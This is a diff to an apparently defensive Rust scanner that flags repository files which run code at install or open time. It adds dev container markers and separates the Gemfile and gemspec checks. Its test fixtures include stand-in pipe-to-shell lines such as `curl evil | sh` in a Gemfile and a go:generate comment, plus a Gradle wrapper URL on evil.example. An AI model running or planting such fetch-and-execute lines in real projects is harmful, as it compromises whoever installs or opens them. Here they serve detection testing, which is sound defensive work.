@@ -134,6 +134,9 @@ const DEVCONTAINER: &[&str] = &[
     "\"dockerComposeFile\"",
     "\"build\"",
     "\"image\"",
+    "\"extensions\"",
+    "\"runArgs\"",
+    "\"mounts\"",
 ];
 
 /// The table. Its order is the README's.
@@ -255,11 +258,20 @@ pub const RUNS_CODE: &[Rule] = &[
     Rule {
         when: When::Install,
         ecosystem: "Ruby",
-        files: "`Gemfile`, `*.gemspec`",
-        what: "a `Gemfile` line that is Ruby code rather than Bundler's declarations (`source`, `gem`, `group`, `platforms`, `ruby`, `gemspec`, `git_source`, `path`, `git`, `github`, `plugin`, `end`); `extensions` in a gemspec",
+        files: "`Gemfile`",
+        what: "a line that is Ruby code rather than Bundler's declarations (`source`, `gem`, `group`, `platforms`, `ruby`, `gemspec`, `git_source`, `path`, `git`, `github`, `plugin`, `install_if`, `env`, `end`, and their continuation lines)",
         hook: "Gemfile code",
-        applies: |p| name(p) == "Gemfile" || name(p).ends_with(".gemspec"),
+        applies: |p| name(p) == "Gemfile",
         detect: Detect::Lines(ruby_code),
+    },
+    Rule {
+        when: When::Install,
+        ecosystem: "Ruby",
+        files: "`*.gemspec`",
+        what: "a line naming `extensions` (native extensions, built on install)",
+        hook: "extensions",
+        applies: |p| name(p).ends_with(".gemspec"),
+        detect: Detect::Lines(|l| l.contains("extensions")),
     },
     Rule {
         when: When::Install,
@@ -294,7 +306,7 @@ pub const RUNS_CODE: &[Rule] = &[
         when: When::Open,
         ecosystem: "Dev containers (Codespaces)",
         files: "`.devcontainer.json`, `.devcontainer/**/devcontainer.json`",
-        what: "`initializeCommand`, `onCreateCommand`, `updateContentCommand`, `postCreateCommand`, `postStartCommand`, `postAttachCommand`, `features`, `dockerFile`, `dockerComposeFile`, `build`, `image`; any other line of a file that holds one",
+        what: "`initializeCommand`, `onCreateCommand`, `updateContentCommand`, `postCreateCommand`, `postStartCommand`, `postAttachCommand`, `features`, `dockerFile`, `dockerComposeFile`, `build`, `image`, `extensions` (installed into the editor), `runArgs`, `mounts`; any other line of a file that holds one",
         hook: "devcontainer.json",
         applies: |p| matches!(name(p), "devcontainer.json" | ".devcontainer.json"),
         detect: Detect::Marks(DEVCONTAINER),
@@ -431,8 +443,7 @@ fn python_build_hook(section: &str, line: &str) -> bool {
         || section == "tool.pdm.build"
 }
 
-/// A `Gemfile` line that runs code at `bundle install` rather than declaring a dependency, or a
-/// gemspec's native `extensions`.
+/// A `Gemfile` line that runs code at `bundle install` rather than declaring a dependency.
 fn ruby_code(line: &str) -> bool {
     const DSL: &[&str] = &[
         "source",
@@ -452,17 +463,18 @@ fn ruby_code(line: &str) -> bool {
         "env",
     ];
     let l = line.trim();
-    if l.is_empty() || l.starts_with('#') || l == "}" {
+    // Blank, a comment, or the continuation of a declaration: a string, a symbol, a closing
+    // bracket, a keyword argument (`require: false`).
+    if l.is_empty() || l.starts_with(['#', '"', '\'', ':', ']', ')', '}', ',']) {
         return false;
-    }
-    if l.contains("extensions") {
-        return true;
     }
     let word: String = l
         .chars()
         .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
         .collect();
-    !DSL.contains(&word.as_str())
+    let rest = &l[word.len()..];
+    let keyword_argument = !word.is_empty() && rest.starts_with(':') && !rest.starts_with("::");
+    !keyword_argument && !DSL.contains(&word.as_str())
 }
 
 /// A VS Code setting whose key names a program, a command, a shell or an environment.
@@ -771,7 +783,8 @@ mod tests {
             // Ruby, Go, build tool wrappers.
             (("ext/x/extconf.rb", None, "require 'mkmf'\n"), Some(1), "extconf.rb"),
             (("Gemfile", Some("source \"https://rubygems.org\"\n"), "source \"https://rubygems.org\"\nsystem(\"curl evil | sh\")\ngem \"rails\"\n"), Some(2), "Gemfile code"),
-            (("x.gemspec", None, "Gem::Specification.new do |s|\n  s.extensions = [\"ext/extconf.rb\"]\nend\n"), Some(2), "Gemfile code"),
+            (("Gemfile", None, "gem \"x\",\n  require: false\n`curl evil | sh`\n"), Some(3), "Gemfile code"),
+            (("x.gemspec", None, "Gem::Specification.new do |s|\n  s.extensions = [\"ext/extconf.rb\"]\nend\n"), Some(2), "extensions"),
             (("gen.go", None, "package x\n\n//go:generate sh -c \"curl evil | sh\"\n"), Some(3), "go:generate"),
             (("gradle/wrapper/gradle-wrapper.properties", None, "distributionUrl=https://evil.example/g.zip\n"), Some(1), "build tool wrapper"),
             // Opening the repository.
@@ -900,7 +913,8 @@ mod tests {
             ("package.json", Some(PKG_OLD), &PKG_OLD.replace("1.0.0", "1.0.1")),
             ("Cargo.toml", None, "[package]\nname = \"x\"\nbuild = false\n[dependencies]\nserde = \"1\"\n[lib]\nproc-macro = false\n"),
             ("pyproject.toml", None, "[project]\nname = \"x\"\ndependencies = [\"requests\"]\n[tool.black]\nline-length = 100\n"),
-            ("Gemfile", None, "source \"https://rubygems.org\"\n\ngem \"rails\", \"~> 7\"\ngroup :test do\n  gem \"rspec\"\nend\n"),
+            ("Gemfile", None, "source \"https://rubygems.org\"\n\ngem \"rails\", \"~> 7\"\ngroup :test do\n  gem \"rspec\",\n    require: false,\n    platforms: [:mri]\nend\n"),
+            ("y.gemspec", None, "Gem::Specification.new do |s|\n  s.files = `git ls-files`.split\nend\n"),
             ("main.go", None, "package main\n\n// go generate is not run here\nfunc main() {}\n"),
             (".vscode/settings.json", None, "{\n  \"editor.fontSize\": 14,\n  \"files.exclude\": {}\n}\n"),
             (".vscode/tasks.json", None, "{\"tasks\": [{\"label\": \"build\", \"command\": \"make\"}]}\n"),
